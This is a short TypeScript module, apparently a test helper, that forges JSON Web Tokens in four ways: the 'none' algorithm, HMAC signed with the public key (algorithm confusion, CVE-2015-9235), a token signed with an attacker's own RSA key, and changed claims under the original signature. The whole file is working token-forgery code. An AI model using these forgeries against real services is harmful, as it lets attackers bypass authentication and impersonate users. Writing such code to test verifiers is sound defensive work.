import type { JsonWebKey, KeyObject } from 'node:crypto';
import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const decode = (part = ''): Record<string, unknown> => JSON.parse(Buffer.from(part, 'base64url').toString());

/** Returns the token's claims with another algorithm and signature. */
function resign(token: string, alg: string, signature: (input: string) => string): string {
  const [header, payload] = token.split('.');
  const input = `${encode({ ...decode(header), alg })}.${payload}`;
  return `${input}.${signature(input)}`;
}

export const unsigned = (token: string): string => resign(token, 'none', () => '');

/** Signs with the public key as if it were a shared secret (CVE-2015-9235). */
export const hs256 = (token: string, publicKey: unknown): string => {
  const pem = createPublicKey({ key: publicKey as JsonWebKey, format: 'jwk' }).export({
    type: 'spki',
    format: 'pem',
  });
  return resign(token, 'HS256', (input) => createHmac('sha256', pem).update(input).digest('base64url'));
};

let own: KeyObject | undefined;

/** Signs with the attacker's own key, under the name of a real one. */
export const foreign = (token: string): string => {
  own ??= generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;
  const key = own;
  return resign(token, 'RS256', (input) => sign('sha256', Buffer.from(input), key).toString('base64url'));
};

/** Puts other claims under the original signature. */
export const changed = (token: string, change: Record<string, unknown>): string => {
  const [header, payload, signature] = token.split('.');
  return `${header}.${encode({ ...decode(payload), ...change })}.${signature}`;
};
